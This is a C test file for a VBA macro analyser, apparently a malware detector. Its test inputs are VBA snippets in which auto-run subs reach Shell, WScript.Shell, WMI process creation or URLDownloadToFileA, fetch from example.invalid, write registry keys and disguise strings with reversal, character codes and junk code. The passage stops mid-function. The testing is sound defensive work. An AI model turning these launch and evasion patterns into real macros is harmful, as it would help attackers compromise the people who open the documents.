/* SPDX-License-Identifier: Apache-2.0 */
/* Harmless macros: what they would do is to address example.invalid, or to name
 * programs that do not exist. */
#include "observe/part/harness.h"
#include "observe/part/observe.h"
#include "base/buf.h"
#include "decode/cfb/cfb_build.h"

#include <setjmp.h>
#include <stdarg.h>
#include <cmocka.h>
#include "tests/table.h"

#define HEAD "Attribute VB_Name = \"ThisDocument\"\r\n"
#define E FACT_VBA_ENTRY
#define EE FACT_VBA_ENTRY_EVENT
#define S FACT_VBA_SINK
#define K FACT_VBA_SINK_KIND
#define R FACT_VBA_REACH
#define RE FACT_VBA_REACH_EVENT
#define STR FACT_VBA_STRING
#define OBJ FACT_VBA_OBJECT
#define URL FACT_VBA_URL
#define HID FACT_VBA_HIDDEN_SOURCE
#define OBF FACT_VBA_OBFUSCATION
#define CALL FACT_VBA_CALL
#define DECL FACT_VBA_DECLARE

enum { WANTS = 6 };

struct want {
    enum fact_id id;
    const char *text; /* NULL: no fact with this id */
};

static const struct {
    const char *what, *source;
    struct want wants[WANTS]; /* ends where id and text are 0 */
} cases[] = {
    /* --- entries */
    { "AutoOpen", "Sub AutoOpen()\r\nEnd Sub", { { E, "AutoOpen" }, { S, NULL }, { R, NULL } } },
    { "any case, split over lines", "Sub _\r\n _\r\n aUTOoPEN( _\r\n )\r\nEnd Sub", { { E, "aUTOoPEN" } } },
    { "document event", "Private Sub Document_Open()\r\nEnd Sub", { { E, "Document_Open" } } },
    { "printing is the reader's doing", "Sub Workbook_BeforePrint(c As Boolean)\r\nEnd Sub", { { E, NULL }, { EE, "Workbook_BeforePrint" } } },
    { "workbook event", "Private Sub Workbook_BeforeClose(c As Boolean)\r\nEnd Sub", { { E, "Workbook_BeforeClose" } } },
    { "a sheet's change is the reader's doing", "Sub Worksheet_Change(t)\r\nShell t\r\nEnd Sub",
      { { E, NULL }, { EE, "Worksheet_Change" }, { R, NULL }, { RE, "Worksheet_Change -> Shell" } } },
    { "control event that comes by itself", "Sub Frame1_Layout()\r\nShell x\r\nEnd Sub",
      { { EE, "Frame1_Layout" }, { R, "Frame1_Layout -> Shell" } } },
    { "click", "Sub Button1_Click()\r\nShell x\r\nEnd Sub", { { R, NULL }, { RE, "Button1_Click -> Shell" } } },
    { "only in a comment", "' Sub AutoOpen()\r\nRem Sub AutoOpen()\r\nSub a() ' x _\r\nShell x\r\nEnd Sub", { { E, NULL }, { S, NULL } } },
    { "only in a string", "Sub a()\r\nx = \"Sub AutoOpen()\"\r\nEnd Sub", { { E, NULL } } },
    { "no event of a document", "Sub Document_OpenHelper()\r\nEnd Sub", { { E, NULL } } },
    { "shell folder opens a file", "Sub a()\r\nCreateObject(\"Shell.Application\").Open (x)\r\nEnd Sub", { { S, "Shell.Application.Open" } } },
    { "a name that begins so", "Sub AutoOpener()\r\nEnd Sub", { { E, NULL } } },

    /* --- reach */
    { "direct", "Sub AutoOpen()\r\nShell \"x.exe\"\r\nEnd Sub", { { R, "AutoOpen -> Shell" }, { K, "run" }, { FACT_VBA_REACH_KIND, "run" } } },
    { "over two calls", "Sub AutoOpen()\r\nCall b\r\nEnd Sub\r\nSub b()\r\nx = c(1)\r\nEnd Sub\r\nFunction c(n)\r\nShell n\r\nEnd Function",
      { { R, "AutoOpen -> b -> c -> Shell" } } },
    { "not called", "Sub AutoOpen()\r\nEnd Sub\r\nSub b()\r\nShell x\r\nEnd Sub", { { S, "Shell" }, { R, NULL }, { FACT_VBA_REACH_KIND, NULL } } },
    { "calls in a circle", "Sub AutoOpen()\r\nb\r\nEnd Sub\r\nSub b()\r\nc\r\nEnd Sub\r\nSub c()\r\nb: AutoOpen: Shell x\r\nEnd Sub",
      { { R, "AutoOpen -> b -> c -> Shell" } } },
    { "by name", "Sub AutoOpen()\r\nApplication.Run \"ThisDocument.\" & \"b\"\r\nEnd Sub\r\nSub b()\r\nShell x\r\nEnd Sub",
      { { R, "AutoOpen -> b -> Shell" } } },
    { "by timer", "Sub AutoOpen()\r\nApplication.OnTime Now, \"b\"\r\nEnd Sub\r\nSub b()\r\nShell x\r\nEnd Sub",
      { { R, "AutoOpen -> b -> Shell" } } },
    { "by computed name", "Sub AutoOpen()\r\nApplication.Run f.Tag\r\nEnd Sub\r\nSub b()\r\nShell x\r\nEnd Sub",
      { { R, "AutoOpen -> b -> Shell" } } },
    { "behind Then", "Sub AutoOpen()\r\nIf a Then Shell x Else y = 1\r\nEnd Sub", { { R, "AutoOpen -> Shell" } } },
    { "behind a colon", "Sub AutoOpen(): a = 1: Shell x: End Sub", { { R, "AutoOpen -> Shell" } } },

    /* --- sinks */
    { "library in front", "Sub a()\r\nVBA.Interaction.Shell x, 0\r\nEnd Sub", { { S, "Shell" } } },
    { "inside Array", "Sub a()\r\nx = Array(b, c, Interaction.Shell((\"\" + u) + u, 1 - 1), d)\r\nEnd Sub", { { S, "Shell" } } },
    { "type character", "Sub a()\r\nShell% KeyString(u + 67) + f\r\nEnd Sub", { { S, "Shell" }, { OBF, "type characters on calls" } } },
    { "in brackets", "Sub a()\r\n[Shell] x, 0\r\nEnd Sub", { { S, "Shell" }, { OBF, "brackets around calls" } } },
    { "over continuations", "Sub a()\r\nx = Interaction _\r\n _\r\n .Shell(y)\r\nEnd Sub", { { S, "Shell" }, { OBF, "split over continuations" } } },
    { "a procedure called Shell does not hide it", "Sub AutoOpen()\r\nInteraction.Shell x\r\nEnd Sub\r\nPrivate Sub Shell(y)\r\nEnd Sub", { { S, "Shell" } } },
    { "a variable called shell", "Sub a()\r\nSet shell = CreateObject(\"Word.Application\")\r\nshell.Quit\r\nEnd Sub", { { S, NULL } } },
    { "WScript.Shell", "Sub a()\r\nCreateObject(\"WScript.Shell\").Run x\r\nEnd Sub", { { S, "WScript.Shell.Run" }, { OBJ, "wscript.shell" } } },
    { "through a variable", "Sub a()\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Exec x\r\nEnd Sub", { { S, "WScript.Shell.Exec" } } },
    { "variable set further down", "Sub a()\r\ns.Run x\r\nEnd Sub\r\nSub b()\r\nSet s = CreateObject(\"WScript.Shell\")\r\nEnd Sub",
      { { S, "WScript.Shell.Run" } } },
    { "early binding", "Sub a()\r\nDim s As New WshShell\r\ns.Run x\r\nEnd Sub", { { S, "WScript.Shell.Run" } } },
    { "by class id", "Sub a()\r\nGetObject(\"new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}\").Run x\r\nEnd Sub", { { S, "WScript.Shell.Run" } } },
    { "With", "Sub a()\r\nWith CreateObject(\"WScript.Shell\")\r\n.Run x\r\nEnd With\r\nEnd Sub", { { S, "WScript.Shell.Run" } } },
    { "computed class", "Sub a()\r\nCreateObject(f.Label1.Tag).Run! x\r\nEnd Sub",
      { { S, "(computed).Run" }, { OBF, "computed class name" }, { HID, "control tag or caption -> (computed).Run" } } },
    { "class in pieces", "Sub a()\r\nCreateObject(\"wscr\" + u + \"ipt.shell\").Run x\r\nEnd Sub",
      { { S, "WScript.Shell.Run" }, { OBJ, "wscript.shell" }, { OBF, "class name in pieces" } } },
    { "WMI", "Sub a()\r\nGetObject(\"winmgmts:\").Get(\"Win32_Process\").Create c, n, s, p\r\nEnd Sub", { { S, "Win32_Process.Create" } } },
    { "WMI in a loop", "Sub a()\r\nSet p = GetObject(StrReverse(\"ssecorP_23niW:stmgmniw\"))\r\nDo While p. _\r\n Create(u & c(), u, s, u)\r\nLoop\r\nEnd Sub",
      { { S, "Win32_Process.Create" }, { K, "run" } } },
    { "the application's own Run", "Sub a()\r\nApplication.Run \"b\"\r\nEnd Sub", { { S, NULL } } },
    { "Run of a Word object", "Sub a()\r\nSet w = CreateObject(\"Word.Application\")\r\nw.Run \"b\"\r\nEnd Sub", { { S, NULL } } },
    { "download", "Sub a()\r\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\r\nh.Open \"GET\", \"http://example.invalid/a\", False\r\nh.Send\r\nEnd Sub",
      { { S, "XMLHTTP.Send" }, { K, "download" }, { URL, "http://example.invalid/a" } } },
    { "sending a mail", "Sub a()\r\nSet m = CreateObject(\"Outlook.Application\").CreateItem(0)\r\nm.Send\r\nEnd Sub", { { S, NULL } } },
    { "stream", "Sub a()\r\ns.SaveToFile \"x\", 2\r\nEnd Sub", { { S, "ADODB.Stream.SaveToFile" }, { K, "write" } } },
    { "file", "Sub a()\r\nOpen f For Output As #1\r\nPrint #1, \"x\"\r\nEnd Sub", { { S, "Open for writing" } } },
    { "file for reading", "Sub a()\r\nOpen f For Input As #1\r\nEnd Sub", { { S, NULL } } },
    { "library function", "Private Declare PtrSafe Function g Lib \"urlmon.dll\" Alias \"URLDownloadToFileA\" (ByVal a As Long) As Long\r\nSub AutoOpen()\r\ng 0\r\nEnd Sub",
      { { DECL, "urlmon!urldownloadtofilea" }, { S, "urlmon!urldownloadtofilea" }, { R, "AutoOpen -> urlmon!urldownloadtofilea" }, { K, "download" } } },
    { "harmless library function", "Declare Function GetTickCount Lib \"kernel32\" () As Long\r\nSub a()\r\nx = GetTickCount()\r\nEnd Sub",
      { { DECL, "kernel32!gettickcount" }, { S, NULL } } },
    { "registry", "Sub a()\r\nCreateObject(\"WScript.Shell\").RegWrite k, v\r\nEnd Sub", { { K, "persist" } } },
    { "code that writes code", "Sub a()\r\nx.VBProject.VBComponents(1).CodeModule.AddFromString s\r\nEnd Sub", { { K, "persist" }, { CALL, "VBProject" } } },
    { "Excel 4.0", "Sub a()\r\nExecuteExcel4Macro x\r\nEnd Sub", { { S, "ExecuteExcel4Macro" } } },
    { "style sheet script", "Sub a()\r\nd.transformNode (d)\r\nEnd Sub", { { S, "MSXML transformNode" } } },
    { "everyday", "Sub a()\r\nFor i = 1 To 9\r\nCells(i, 1).Value = i & \"x\"\r\nNext i\r\nMsgBox \"done\"\r\nEnd Sub",
      { { S, NULL }, { OBJ, NULL }, { OBF, NULL }, { HID, NULL } } },

    /* --- constants */
    { "join", "Sub a()\r\nx = \"exam\" & \"ple.\" + \"invalid\"\r\nEnd Sub", { { STR, "example.invalid" } } },
    { "doubled quotes", "Sub a()\r\nx = \"a \"\"b\"\" c\"\r\nEnd Sub", { { STR, "a \"b\" c" } } },
    { "undefined names are nothing", "Sub a()\r\nx = u1 + \"exam\" + u2 + u3 + \"ple\" + u4\r\nEnd Sub", { { STR, "example" } } },
    { "characters", "Sub a()\r\nx = Chr(101) & ChrW(&H78) & Chr$(100 - 3) & \"mple\"\r\nEnd Sub", { { STR, "example" } } },
    { "key constants", "Sub a()\r\nx = Chr(VBA.vbKeyW) & ChrW(wdKeyS) & \"cript\"\r\nEnd Sub", { { STR, "WScript" } } },
    { "reversed", "Sub a()\r\nx = StrReverse(\"elp\" & \"maxe\")\r\nEnd Sub", { { STR, "example" } } },
    { "replaced", "Sub a()\r\nx = Replace(\"exZZamZZple\", \"ZZ\", \"\")\r\nEnd Sub", { { STR, "example" } } },
    { "split and joined", "Sub a()\r\nx = Join(Split(\"ex##am##ple\", \"##\"), \"\")\r\nEnd Sub", { { STR, "example" } } },
    { "cut", "Sub a()\r\nx = Mid(\"--example--\", 3, 7)\r\ny = Left(Right(\"--pieces\", 6), 5)\r\nEnd Sub", { { STR, "example" }, { STR, "piece" } } },
    { "constant", "Const c = \"exam\"\r\nSub a()\r\nx = c & \"ple\"\r\nEnd Sub", { { STR, "example" } } },
    { "written once", "Sub a()\r\nc = \"exam\"\r\nx = c & \"ple\"\r\nEnd Sub", { { STR, "example" } } },
    { "written twice is unknown", "Sub a()\r\nc = \"exam\"\r\nc = f()\r\nx = c & \"ple of it\"\r\nEnd Sub", { { STR, "ple of it" } } },
    { "unknown in the middle", "Sub a()\r\nx = \"first half\" & f(1) & \"second half\"\r\nEnd Sub", { { STR, "first half" }, { STR, "second half" } } },
    { "mid past the end", "Sub a()\r\nx = Mid(\"short\", 50, 9999999) & Left(\"a\", -1) & \"tail\"\r\nEnd Sub", { { STR, "tail" } } },
    { "code out of range", "Sub a()\r\nx = Chr(99999999) & ChrW(-1) & \"tail\"\r\nEnd Sub", { { STR, "tail" } } },
    { "list of addresses", "Sub a()\r\nx = \"http://example.invalid/a@https://example.invalid/b\"\r\nEnd Sub",
      { { URL, "http://example.invalid/a" }, { URL, "https://example.invalid/b" } } },
    { "address in pieces", "Sub a()\r\nx = \"ht\" & \"tp:/\" & \"/example\" & \".invalid/c\"\r\nEnd Sub", { { URL, "http://example.invalid/c" } } },

    /* --- where values come from */
    { "control on the document", "Attribute VB_Control = \"TextBox1, 0, 0, MSForms, TextBox\"\r\nSub a()\r\nShell x + TextBox1\r\nEnd Sub", { { HID, "control -> Shell" } } },
    { "control of a module", "Sub a()\r\nShell ThisDocument.Box, 0\r\nEnd Sub", { { HID, "control -> Shell" } } },
    { "shape text", "Sub a()\r\nc = Me.Shapes(\"x\").TextFrame.TextRange\r\nShell c, 0\r\nEnd Sub", { { HID, "shape text -> Shell" } } },
    { "document variable through a function", "Function f()\r\nf = ActiveDocument.Variables(\"v\").Value\r\nEnd Function\r\nSub a()\r\nShell f(), 0\r\nEnd Sub",
      { { HID, "document variable -> Shell" } } },
    { "property", "Sub a()\r\nShell ActiveDocument.BuiltInDocumentProperties(\"Comments\")\r\nEnd Sub", { { HID, "document property -> Shell" } } },
    { "not into a sink", "Sub AutoOpen()\r\nMsgBox Me.Shapes(1).TextFrame.TextRange\r\nEnd Sub", { { HID, NULL } } },

    /* --- odd sources */
    { "nothing", "", { { E, NULL }, { FACT_VBA_IDENTITY, NULL } } },
    { "line numbers", "Sub AutoOpen()\r\n10 x = 1\r\n20 Shell x\r\nEnd Sub", { { R, "AutoOpen -> Shell" } } },
    { "line feeds only", "Sub AutoOpen()\nShell x\nEnd Sub\n", { { R, "AutoOpen -> Shell" } } },
    { "carriage returns only", "Sub AutoOpen()\rShell x\rEnd Sub\r", { { R, "AutoOpen -> Shell" } } },
    { "functions of nothing", "Sub AutoOpen()\r\nx = LCase(\"\") & StrReverse(\"\") & Mid(\"\", 1) & Replace(\"\", \"\", \"\") & Split(\"\", \"\")\r\nShell x\r\nEnd Sub",
      { { R, "AutoOpen -> Shell" } } },
    { "string not closed", "Sub AutoOpen()\r\nx = \"abc\r\nShell x\r\nEnd Sub", { { R, "AutoOpen -> Shell" } } },
    { "no End Sub", "Sub AutoOpen()\r\nShell x", { { R, "AutoOpen -> Shell" } } },
    { "many opening parentheses", "Sub AutoOpen()\r\nx = ((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((\r\nShell x\r\nEnd Sub",
      { { R, "AutoOpen -> Shell" } } },
    { "only operators", "Sub AutoOpen()\r\n&&&& + + = = . . ! ) ) (\r\nShell x\r\nEnd Sub", { { R, "AutoOpen -> Shell" } } },
    { "names in Japanese", "Sub AutoOpen()\r\n\xe5\xae\x9f\xe8\xa1\x8c\r\nEnd Sub\r\nSub \xe5\xae\x9f\xe8\xa1\x8c()\r\nShell x\r\nEnd Sub",
      { { R, "AutoOpen -> \xe5\xae\x9f\xe8\xa1\x8c -> Shell" } } },
};

static struct tally *observe(const char *source)
{
    struct buf b = buf_new(1 << 22);
    buf_text(&b, HEAD);
    buf_text(&b, source);
    struct tally *t = tally_observed(&(struct tally_options){ .format = "vba" }, buf_slice(&b));
    buf_drop(&b);
    tally_check(t);
    return t;
}

static void macros_are_understood(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct tally *t = observe(cases[i].source);
        for (size_t k = 0; k < WANTS; k++) {
            const struct want *w = &cases[i].wants[k];
            if (w->id == 0 && !w->text)
                break;
            if (w->text ? !tally_has(t, w->id, w->text) : tally_facts(t, w->id) != 0)
                fail_msg("%s: %s '%s', first is '%.*s'", cases[i].what, fact_row(w->id)->name,
                         w->text ? w->text : "(none)", SLICE_FMT(tally_text(t, w->id, 0)));
        }
        tally_drop(&t);
    }
}

/* Facts stand in the module, with the line. */
static void lines_are_told(void **state)
{
    (void)state;
    struct tally *t = observe("\r\n\r\nSub AutoOpen()\r\n    Shell \"a\" & _\r\n \"b\", 0\r\nEnd Sub\r\n");
    const struct fact *f = tally_fact(t, FACT_VBA_REACH);
    assert_non_null(f);
    assert_int_equal(f->line, 5);
    assert_true(slice_is(t->r.parts[f->part].type, "vba-module"));
    slice source = tally_view(t, FACT_VBA_CODE, f->part);
    assert_true(slice_is(slice_sub(source, (size_t)f->at.from, (size_t)(f->at.to - f->at.from)), "Shell"));
    tally_drop(&t);
}

static int64_t number(const struct tally *t, enum fact_id id)
{
    const struct fact *f = tally_fact(t, id);
    return f ? f->number : -1;
}

/* --- measures */

static void junk(struct buf *b)
{
    buf_text(b, "Sub AutoOpen()\r\nOn Error Resume Next\r\n");
    for (unsigned i = 0; i < 40; i++)
        buf_format(b, "qWzXkP%uvB = (26571%u + Round(sVmBr%u) * 27 - mNSl%uZ + (qD%uCV / Tan(sw%ud)))\r\n", i, i, i, i, i, i);
    buf_text(b, "End Sub\r\n");
}

static void honest(struct buf *b)
{
    buf_text(b, "Sub Total()\r\n");
    for (unsigned i = 0; i < 40; i++)
        buf_format(b, "Amount%c = Amount%c + Cells(%u, 2)\r\n", 'A' + (int)i % 26, 'A' + (int)i % 26, i);
    for (unsigned i = 0; i < 26; i++)
        buf_format(b, "Cells(1, %u) = Amount%c\r\n", i, 'A' + (int)i);
    buf_text(b, "End Sub\r\n");
}

static void joined(struct buf *b)
{
    buf_text(b, "Sub a()\r\n");
    for (unsigned i = 0; i < 30; i++)
        buf_text(b, "x = x & \"q\" & \"w\" + \"e\"\r\n");
}

static void coded(struct buf *b)
{
    buf_text(b, "Sub a()\r\n");
    for (unsigned i = 0; i < 30; i++)
        buf_format(b, "x = x & Chr(%u)\r\n", 65 + i);
}

static void stuffed(struct buf *b)
{
    buf_text(b, "Sub a()\r\nx = Join(Split(\"");
    for (unsigned i = 0; i < 40; i++)
        buf_format(b, "//==a@@%c", 'a' + (int)i % 26);
    buf_text(b, "\", \"//==a@@\"), \"\")\r\n");
}

static void stuffed_by_a_variable(struct buf *b)
{
    buf_text(b, "Sub a()\r\ns = f()\r\nx = Join(Split(\"");
    for (unsigned i = 0; i < 40; i++)
        buf_format(b, "//==a@@%c", 'a' + (int)i % 26);
    buf_text(b, "\", s), \"\")\r\n");
}

static void encoded(struct buf *b)
{
    buf_text(b, "Sub a()\r\nx = \"");
    for (unsigned i = 0; i < 300; i++)
        buf_text(b, "aGVs");
    buf_text(b, "\"\r\n");
}

static void prose(struct buf *b)
{
    buf_text(b, "Sub a()\r\nx = \"");
    for (unsigned i = 0; i < 30; i++)
        buf_text(b, "a sentence that people may read. ");
    buf_text(b, "\"\r\n");
}

static void dead_select(struct buf *b)
{
    buf_text(b, "Sub a()\r\n");
    for (unsigned i = 0; i < 5; i++)
        buf_format(b, "Select Case zz%u\r\nCase 1\r\ny = 2\r\nEnd Select\r\n", i);
}

static void odd_case(struct buf *b)
{
    for (unsigned i = 0; i < 5; i++)
        buf_format(b, "sUb a%u()\r\niF x tHEn y\r\neND sUB\r\n", i);
}

static const struct {
    const char *what;
    void (*make)(struct buf *b);
    const char *technique, *not_this;
    int64_t score_from, score_to;
} measures[] = {
    { "junk", junk, "junk assignments", "joined strings", 3, 9 },
    { "junk: undefined", junk, "undefined names", NULL, 3, 9 },
    { "junk: random", junk, "random names", NULL, 3, 9 },
    { "junk: arithmetic", junk, "pointless arithmetic", NULL, 3, 9 },
    { "honest", honest, NULL, "junk assignments", 0, 0 },
    { "joins", joined, "joined strings", NULL, 1, 3 },
    { "codes", coded, "character codes", NULL, 1, 3 },
    { "separators", stuffed, "separator stuffing", NULL, 1, 2 },
    { "separator in a variable", stuffed_by_a_variable, "separator stuffing", NULL, 1, 2 },
    { "base64", encoded, "encoded literal", "separator stuffing", 2, 2 },
    { "prose", prose, NULL, "encoded literal", 0, 1 },
    { "dead Select", dead_select, "dead Select Case", NULL, 1, 1 },
    { "case", odd_case, "keywords in mixed case", NULL, 1, 1 },
};

static void measures_apply(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof measures / sizeof measures[0]; i++) {
        struct buf b = buf_new(1 << 20);
        measures[i].make(&b);
        buf_byte(&b, 0);
        struct tally *t = observe((const char *)b.at);
        int64_t score = number(t, FACT_VBA_OBFUSCATION_SCORE);
        if ((measures[i].technique && !tally_has(t, OBF, measures[i].technique)) ||
            (measures[i].not_this && tally_has(t, OBF, measures[i].not_this)) || score < measures[i].score_from ||
            score > measures[i].score_to)
            fail_msg("%s: score %d, '%.*s'", measures[i].what, (int)score, SLICE_FMT(tally_text(t, OBF, 0)));
        tally_drop(&t);
        buf_drop(&b);
    }
}

/* --- identity */

#define LIVE "Sub AutoOpen()\r\nDim cmd As String\r\ncmd = \"one\" & first(3)\r\n" \
             "If cmd <> \"\" Then\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run cmd, 0\r\nEnd If\r\nEnd Sub\r\n" \
             "Function first(n)\r\nfor i = 1 to n\r\nfirst = first & Chr(64 + i)\r\nNext\r\nEnd Function\r\n"

static const struct {
    const char *what, *source;
    bool same;
} mutations[] = {
    { "itself", LIVE, true },
    { "names", "Sub AutoOpen()\r\nDim zq As String\r\nzq = \"one\" & kjh(3)\r\n"
               "If zq <> \"\" Then\r\nSet ww = CreateObject(\"WScript.Shell\")\r\nww.Run zq, 0\r\nEnd If\r\nEnd Sub\r\n"
               "Function kjh(pp)\r\nfor u = 1 to pp\r\nkjh = kjh & Chr(64 + u)\r\nNext\r\nEnd Function\r\n", true },
    { "strings and numbers", "Sub AutoOpen()\r\nDim cmd As String\r\ncmd = \"a\" & \"b\" & \"c\" & first(99)\r\n"
               "If cmd <> \"zz\" Then\r\nSet sh = CreateObject(\"Scripting.Other\")\r\nsh.Run cmd, 7\r\nEnd If\r\nEnd Sub\r\n"
               "Function first(n)\r\nfor i = 5 to n\r\nfirst = first & Chr(1 + i)\r\nNext\r\nEnd Function\r\n", true },
    { "comments and blank lines", "' by nobody\r\n\r\n" LIVE "\r\n' end\r\nRem end\r\n", true },
    { "comments inside", "Sub AutoOpen() ' a\r\n'b\r\nDim cmd As String\r\n\r\ncmd = \"one\" & first(3)\r\n"
               "If cmd <> \"\" Then 'c\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run cmd, 0\r\nEnd If\r\nEnd Sub\r\n"
               "Function first(n)\r\nfor i = 1 to n\r\nfirst = first & Chr(64 + i)\r\nNext\r\nEnd Function\r\n", true },
    { "another unused procedure", LIVE "Sub unused()\r\nMsgBox \"x\"\r\nz = CreateObject(\"a.b\")\r\nEnd Sub\r\n", true },
    { "procedures in another order",
               "Function first(n)\r\nfor i = 1 to n\r\nfirst = first & Chr(64 + i)\r\nNext\r\nEnd Function\r\n"
               "Sub AutoOpen()\r\nDim cmd As String\r\ncmd = \"one\" & first(3)\r\n"
               "If cmd <> \"\" Then\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run cmd, 0\r\nEnd If\r\nEnd Sub\r\n", true },
    { "unused assignments", "Sub AutoOpen()\r\nDim cmd As String\r\njunk1 = 5 * Sin(3)\r\njunk2 = junk1 + Round(q)\r\ncmd = \"one\" & first(3)\r\n"
               "If cmd <> \"\" Then\r\nSet junk3 = junk2\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run cmd, 0\r\nEnd If\r\nEnd Sub\r\n"
               "Function first(n)\r\nw = n\r\nfor i = 1 to n\r\nfirst = first & Chr(64 + i)\r\nNext\r\nEnd Function\r\n", true },
    { "unused assignments in a dead block", "Sub AutoOpen()\r\nDim cmd As String\r\nSelect Case q\r\nCase 1\r\nz = 2\r\nEnd Select\r\ncmd = \"one\" & first(3)\r\n"
               "If cmd <> \"\" Then\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run cmd, 0\r\nEnd If\r\nEnd Sub\r\n"
               "Function first(n)\r\nfor i = 1 to n\r\nfirst = first & Chr(64 + i)\r\nNext\r\nEnd Function\r\n", true },
    { "undefined names in joins", "Sub AutoOpen()\r\nDim cmd As String\r\ncmd = u1 + \"one\" & u2 & first(3) & u3\r\n"
               "If cmd <> \"\" Then\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run cmd, 0\r\nEnd If\r\nEnd Sub\r\n"
               "Function first(n)\r\nfor i = 1 to n\r\nfirst = first & Chr(64 + i)\r\nNext\r\nEnd Function\r\n", true },
    { "Call and continuations", "Sub AutoOpen()\r\nDim cmd As String\r\ncmd = \"one\" _\r\n & first(3)\r\n"
               "If cmd <> \"\" Then\r\nSet sh = _\r\nCreateObject(\"WScript.Shell\")\r\nsh.Run cmd, 0\r\nEnd If\r\nEnd Sub\r\n"
               "Function first(n)\r\nfor i = 1 to n\r\nfirst = first & Chr(64 + i)\r\nNext\r\nEnd Function\r\n", true },
    { "another entry", "Sub Document_Open()\r\nDim cmd As String\r\ncmd = \"one\" & first(3)\r\n"
               "If cmd <> \"\" Then\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run cmd, 0\r\nEnd If\r\nEnd Sub\r\n"
               "Function first(n)\r\nfor i = 1 to n\r\nfirst = first & Chr(64 + i)\r\nNext\r\nEnd Function\r\n", true },
    { "Exec for Run", "Sub AutoOpen()\r\nDim cmd As String\r\ncmd = \"one\" & first(3)\r\n"
               "If cmd <> \"\" Then\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Exec cmd, 0\r\nEnd If\r\nEnd Sub\r\n"
               "Function first(n)\r\nfor i = 1 to n\r\nfirst = first & Chr(64 + i)\r\nNext\r\nEnd Function\r\n", false },
    { "one statement more", "Sub AutoOpen()\r\nDim cmd As String\r\ncmd = \"one\" & first(3)\r\n"
               "If cmd <> \"\" Then\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run cmd, 0\r\nKill cmd\r\nEnd If\r\nEnd Sub\r\n"
               "Function first(n)\r\nfor i = 1 to n\r\nfirst = first & Chr(64 + i)\r\nNext\r\nEnd Function\r\n", false },
    { "used procedure differs", "Sub AutoOpen()\r\nDim cmd As String\r\ncmd = \"one\" & first(3)\r\n"
               "If cmd <> \"\" Then\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run cmd, 0\r\nEnd If\r\nEnd Sub\r\n"
               "Function first(n)\r\nfor i = 1 to n\r\nfirst = StrReverse(first) & Chr(64 + i)\r\nNext\r\nEnd Function\r\n", false },
    { "no condition", "Sub AutoOpen()\r\nDim cmd As String\r\ncmd = \"one\" & first(3)\r\n"
               "Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run cmd, 0\r\nEnd Sub\r\n"
               "Function first(n)\r\nfor i = 1 to n\r\nfirst = first & Chr(64 + i)\r\nNext\r\nEnd Function\r\n", false },
};

static void identity_is_of_the_shape(void **state)
{
    (void)state;
    struct tally *t = observe(LIVE);
    slice want = tally_text(t, FACT_VBA_IDENTITY, 0);
    assert_int_equal(want.len, 19);
    assert_true(slice_starts(want, SLICE_LIT("v1:")));
    for (size_t i = 0; i < sizeof mutations / sizeof mutations[0]; i++) {
        struct tally *m = observe(mutations[i].source);
        slice is = tally_text(m, FACT_VBA_IDENTITY, 0);
        if (is.len == 0 || slice_eq(is, want) != mutations[i].same)
            fail_msg("%s: %.*s, the original %.*s", mutations[i].what, SLICE_FMT(is), SLICE_FMT(want));
        tally_drop(&m);
    }
    tally_drop(&t);
}

/* --- bounds */

static void repeat(struct buf *b, const char *unit, size_t bytes)
{
    size_t n = strlen(unit);
    for (size_t i = 0; i + n <= bytes; i += n)
        buf_text(b, unit);
}

/* Large sources of the shapes that could cost more than their length: each
 * must stay within a budget that is some 150 times its bytes, or say so. */
static void hostile_sizes(void **state)
{
    static const char *const units[] = {
        "(", ")", "\"a\"&", "a.", "x=x&x:", "Call a:", "[", "a!", "Sub a():", "If a Then ", "Else ", " _\r\n", "'",
        "With a:", "Replace(\"aa\",\"a\",\"aaaaaaaa\")&", "a=\"xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\":", "Select Case a:",
        "StrReverse(", "Chr(65)&", "Run a:", "Sub AutoOpen(): Run x: End Sub:", "\"\"", "#", "-", "a:=", ",",
        "Attribute VB_Name = \"x\"\r\n", "Declare Sub a Lib \"b\":", "x\xe3\x81\x82", "Split(\"a,b\",\",\")&",
    };
    (void)state;
    for (size_t i = 0; i < sizeof units / sizeof units[0]; i++) {
        struct buf b = buf_new(1 << 20);
        buf_text(&b, HEAD "Sub AutoOpen()\r\ny = ");
        repeat(&b, units[i], 200000);
        struct budget budget = budget_default();
        budget.left[BUDGET_WORK] = 60000000;
        struct tally *t = tally_observed(&(struct tally_options){ .format = "vba", .budget = &budget }, buf_slice(&b));
        tally_check(t);
        if (t->r.n_facts > 600)
            fail_msg("'%s': %u facts", units[i], t->r.n_facts);
        tally_drop(&t);
        buf_drop(&b);
    }
}

/* However much a macro says, what it runs and from where comes through. */
static void crowds_hide_nothing(void **state)
{
    (void)state;
    struct buf b = buf_new(1 << 20);
    for (unsigned i = 0; i < 300; i++)
        buf_format(&b, "Declare Sub d%u Lib \"l%u\" ()\r\n", i, i);
    buf_text(&b, "Sub AutoOpen()\r\n");
    for (unsigned i = 0; i < 2000; i++)
        buf_format(&b, "x = \"string number %u\" & \"c:\\%u\"\r\n", i, i);
    for (unsigned i = 0; i < 300; i++)
        buf_format(&b, "Set o = CreateObject(\"class%u.x\"): w%u: d%u\r\n", i, i, i);
    buf_text(&b, "z\r\nEnd Sub\r\n");
    for (unsigned i = 0; i < 300; i++)
        buf_format(&b, "Sub w%u()\r\nOpen f For Output As #1\r\nEnd Sub\r\n", i);
    buf_text(&b, "Sub z()\r\nCreateObject(\"WScript.Shell\").Run \"http://example.invalid/last\"\r\nEnd Sub\r\n");
    buf_byte(&b, 0);
